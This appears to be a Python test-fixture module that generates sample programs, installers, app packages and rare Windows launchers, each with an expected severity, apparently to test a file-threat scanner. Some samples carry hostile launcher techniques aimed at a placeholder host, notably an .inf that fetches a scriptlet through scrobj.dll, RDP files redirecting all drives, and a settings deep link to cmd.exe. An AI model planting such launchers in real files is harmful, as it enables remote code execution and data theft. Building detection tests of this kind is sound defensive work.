"""Programs, packages and launchers that lie openly."""

from tests.samples.files import elf, macho, ole, pe, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")


def cases() -> list[Case]:
    """Openly named programs are low; launchers of rarely used kinds medium; apps by what they ask for."""
    return [*_present(), *_installers(), *_apps(), *_launchers()]


def _present() -> list[Case]:
    files = [("Viewer.exe", pe()), ("viewer", elf()), ("Viewer.app/Contents/MacOS/Viewer", macho()), ("Kiosk.AppImage", elf())]
    files += [
        ("codec.dll", pe(library=True)),
        ("play.jar", zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})),
    ]
    return [single("program", name, body, "executable.present", least=Severity.INFO) for name, body in files]


def _installers() -> list[Case]:
    files = [
        ("setup.msi", ole("Property", root_class=INSTALLER)),
        ("patch.msp", ole("Property", root_class=bytes.fromhex("86100c0000000000c000000000000046"))),
        ("tool.deb", b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n"),
        ("tool.rpm", b"\xed\xab\xee\xdb\3\0" + bytes(100)),
        ("Tool.pkg", b"xar!\0\x1c\0\1" + bytes(60)),
        ("tool.flatpakref", f"[Flatpak Ref]\nName=a.b.c\nUrl=https://{HOST}/repo\n".encode()),
        ("tool.snap", b"hsqs" + bytes(96)),
    ]
    return [single("set-up package", name, body, "executable.installer", least=LOW) for name, body in files]


def _apps() -> list[Case]:
    def apk(*permissions: str) -> bytes:
        pool = b"\3\0\x08\0" + b"".join(f"android.permission.{one}\0".encode("utf-16-le") for one in permissions)
        return zip_of({"AndroidManifest.xml": pool, "classes.dex": b"dex\n039\0"})

    profile = '<?xml version="1.0"?><plist><dict><key>PayloadType</key><string>{}</string><key>PayloadType</key><string>Configuration</string></dict></plist>'.format
    files = [
        ("game.apk", apk("BIND_DEVICE_ADMIN", "BIND_NOTIFICATION_LISTENER_SERVICE", "READ_SMS", "SEND_SMS"), HIGH),
        ("fair.apk", apk("RECORD_AUDIO", "ACCESS_BACKGROUND_LOCATION", "READ_CONTACTS", "RECEIVE_BOOT_COMPLETED"), MEDIUM),
        ("guide.apk", apk("INTERNET"), LOW),
        ("wifi.mobileconfig", profile("com.apple.vpn.managed").encode(), HIGH),
        ("mail.mobileconfig", profile("com.apple.mdm").encode(), HIGH),
        ("guide.ipa", zip_of({"Payload/G.app/G": macho()}), LOW),
        ("guide.xapk", zip_of({"manifest.json": b"{}", "a.apk": apk()}), LOW),
        ("guide.aab", zip_of({"BundleConfig.pb": b"x"}), LOW),
        ("guide.msix", zip_of({"AppxManifest.xml": b"<Package/>"}), LOW),
    ]
    return [single("app or profile", name, body, "executable.app-package", least=least) for name, body, least in files]


def _launchers() -> list[Case]:
    setting = '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="u"><ApplicationInformation><DeepLink>{}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'.format
    console = '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTable><String ID="1">{}</String></StringTable></MMC_ConsoleFile>'.format
    contact = '<?xml version="1.0"?><c:contact xmlns:c="u"><c:UrlCollection><c:Url><c:Value>{}</c:Value></c:Url></c:UrlCollection></c:contact>'.format
    files = [
        ("Wifi.settingcontent-ms", setting("%windir%\\system32\\cmd.exe /c ver").encode(), HIGH),
        ("Sound.SettingContent-ms", setting("%windir%\\system32\\control.exe").encode("utf-16"), MEDIUM),
        ("Tool.appref-ms", f"http://{HOST}/t.application#t, Culture=neutral".encode("utf-16"), MEDIUM),
        (
            "Tool.application",
            b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:a"><deployment install="true"/></asmv1:assembly>',
            MEDIUM,
        ),
        ("Tool.appinstaller", f'<?xml version="1.0"?><AppInstaller xmlns="u" Uri="https://{HOST}/a"/>'.encode(), MEDIUM),
        ("Tool.jnlp", f'<?xml version="1.0"?><jnlp codebase="http://{HOST}"><application-desc/></jnlp>'.encode(), MEDIUM),
        ("Tool.xbap", b'<?xml version="1.0"?><assembly xmlns="urn:a"/>', MEDIUM),
        ("Office.rdp", f"full address:s:{HOST}\r\ndrivestoredirect:s:*\r\n".encode(), MEDIUM),
        ("Office2.rdp", f"full address:s:{HOST}\r\nremoteapplicationmode:i:1\r\nredirectclipboard:i:1\r\n".encode("utf-16"), MEDIUM),
        ("Rates.iqy", f"WEB\r\n1\r\nhttps://{HOST}/r.csv\r\n".encode(), MEDIUM),
        ("Aquarium.scr", pe(), MEDIUM),
        ("Photos.pif", pe(), MEDIUM),
        ("Colour.cpl", pe(library=True), MEDIUM),
        ("Clock.gadget", zip_of({"gadget.xml": b"<gadget/>", "c.html": b"<html></html>"}), MEDIUM),
        ("Repair.msc", console("javascript:1").encode(), HIGH),
        ("Disk.msc", console("Disks").encode("utf-16"), MEDIUM),
        (
            "Driver.inf",
            b'[Version]\r\nSignature="$Chicago$"\r\n[DefaultInstall]\r\nUnRegisterOCXs=U\r\n[U]\r\n%11%\\scrobj.dll,NI,http://files.example.net/a\r\n',
            MEDIUM,
        ),
        ("Ann.contact", contact(".\\www\\site.cpl").encode(), MEDIUM),
        ("Manual.hlp", b"\x3f\x5f\x03\x00" + bytes(60), LOW),
        ("Play.com", b"\xb8\0\x4c\xcd\x21", LOW),
        ("Weekly.job", b"\x06\x0a\1\0" + bytes(100), MEDIUM),
        ("Tidy.scpt", b"FasdUAS 1.101.10" + bytes(80), LOW),
    ]
    return [single("launcher of a rare kind", name, body, "executable.rare-launcher", least=least) for name, body, least in files]
